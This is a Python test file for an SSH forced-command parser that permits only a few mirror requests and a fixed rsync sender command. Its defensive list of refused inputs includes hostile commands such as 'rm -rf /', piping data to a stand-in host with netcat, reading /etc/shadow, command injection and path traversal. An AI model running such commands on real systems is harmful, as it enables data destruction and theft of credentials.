"""What production's forced command lets through, and all that it refuses."""

import subprocess

import pytest
from hypothesis import given
from hypothesis import strategies as st

from rota.packs.mirror.requests import Ask, Refused, Request, parse
from rota.packs.mirror.source import ssh_command
from tests.agent.mirror.conftest import RELEASE, Estate, mirror_source

RSYNC = "rsync --server --sender -logtpre.iLsfxCIvu . media/"

MALICIOUS = [
    "",
    " ",
    "sh",
    "bash -i",
    "id",
    "about;id",
    "about\nid",
    "about ",
    " about",
    "ABOUT",
    "files",
    "rows zstd --output=/tmp/x",
    "rows  zstd",
    "rows\tzstd",
    "rows;rm -rf /",
    "rows | nc evil 1",
    "rows $(id)",
    "rows `id`",
    "structure --file=/etc/passwd",
    "pg_dump diary",
    "psql",
    "internal-sftp",
    "/usr/lib/openssh/sftp-server",
    "scp -f /etc/shadow",
    "scp -t /tmp",
    "rsync",
    "rsync --server . media/",  # would write
    "rsync --server -logtpre.iLsfxCIvu . media/",
    "rsync --server --sender -logtpre.iLsfxCIvu . /",
    "rsync --server --sender -logtpre.iLsfxCIvu . /etc/",
    "rsync --server --sender -logtpre.iLsfxCIvu . media/../",
    "rsync --server --sender -logtpre.iLsfxCIvu . media/..",
    "rsync --server --sender -logtpre.iLsfxCIvu . media",
    "rsync --server --sender -logtpre.iLsfxCIvu . media/ /etc/shadow",
    "rsync --server --sender -logtpre.iLsfxCIvu . ./media/",
    "rsync --server --sender -logtpre.iLsfxCIvu . release/../../etc/",
    "rsync --server --sender -logtpre.iLsfxCIvu . release/current/",
    f"rsync --server --sender -logtpre.iLsfxCIvu . release/{RELEASE}/..",
    f"rsync --server --sender -logtpre.iLsfxCIvu . release/{RELEASE}/../../",
    "rsync --server --sender -Llogtpre.iLsfxCIvu . media/",  # would follow links out of the folder
    "rsync --server --sender -klogtpre.iLsfxCIvu . media/",
    "rsync --server --sender -slogtpre.iLsfxCIvu . media/",  # arguments would come past the check
    "rsync --server --sender -logtpre.iLsfxCIvu --copy-links . media/",
    "rsync --server --sender -logtpre.iLsfxCIvu --remove-source-files . media/",
    "rsync --server --sender -logtpre.iLsfxCIvu --log-file=/tmp/x . media/",
    "rsync --server --sender -logtpre.iLsfxCIvu --files-from=/etc/shadow . media/",
    "rsync --server --sender -logtpre.iLsfxCIvu . media/; id",
    "rsync --server --sender -logtpre.iLsfxCIvu . media/\nid",
    "rsync --server --sender -logtpre.iLsfxCIvu . media/\n",
    "rsync --server --sender -logtpre.iLsfxCIvu\t. media/",
    "rsync --server --daemon .",
    "rsync --server --sender --daemon -logtpre.iLsfxCIvu . media/",
    "rsync --server --sender -logtpr\N{ARABIC-INDIC DIGIT ONE}e. . media/",
    "about\x00",
]


@pytest.mark.parametrize("command", MALICIOUS, ids=repr)
def test_what_is_no_sentence_of_the_mirror_is_refused(command: str) -> None:
    with pytest.raises(Refused):
        parse(command)


@given(st.text())
def test_only_the_sentences_themselves_are_understood(command: str) -> None:
    try:
        request = parse(command)
    except Refused:
        return
    assert request.ask == command


@given(st.text(), st.integers(min_value=0, max_value=len(RSYNC)))
def test_anything_put_into_a_copy_s_sentence_makes_it_refused_or_harmless(inserted: str, place: int) -> None:
    try:
        request = parse(RSYNC[:place] + inserted + RSYNC[place:])
    except Refused:
        return
    assert request.words[:3] == ("rsync", "--server", "--sender")
    assert request.words[-1] == "."
    assert not request.release
    assert not set("Lkns") & set(request.words[3].split(".")[0])


@pytest.mark.parametrize("ask", [Ask.ABOUT, Ask.STRUCTURE, Ask.ROWS, Ask.ROWS_ZSTD])
def test_each_question_is_understood(ask: Ask) -> None:
    assert parse(ask.value) == Request(ask)


def test_a_copy_names_no_path_of_its_own() -> None:
    words = ("rsync", "--server", "--sender", "-logtpre.iLsfxCIvu", ".")
    assert parse(RSYNC) == Request(Ask.FILES, words)
    assert parse(RSYNC.replace("media", f"release/{RELEASE}")) == Request(Ask.FILES, words, RELEASE)


def test_over_a_real_connection_everything_else_is_refused_in_one_line(estate: Estate) -> None:
    source = mirror_source(estate)
    for command in ("cat /etc/passwd", "rsync --server --sender -logtpre.iLsfxCIvu . /etc/", ""):
        words = [*ssh_command(source), source.address, *([command] if command else [])]

        done = subprocess.run(words, stdin=subprocess.DEVNULL, capture_output=True, text=True, check=False)

        assert done.returncode == 2
        assert done.stdout == ""
        assert done.stderr.splitlines() == [f"This key serves the mirror and nothing else: {command!r}"]


def test_the_key_forwards_nothing_and_opens_no_subsystem(estate: Estate) -> None:
    source = mirror_source(estate)
    forward = [*ssh_command(source), "-o", "ExitOnForwardFailure=yes", "-N", "-R", "0:127.0.0.1:9", source.address]
    subsystem = [*ssh_command(source), "-s", source.address, "sftp"]

    refused = [
        subprocess.run(words, stdin=subprocess.DEVNULL, capture_output=True, timeout=20, check=False).returncode
        for words in (forward, subsystem)
    ]

    assert refused == [255, 2]
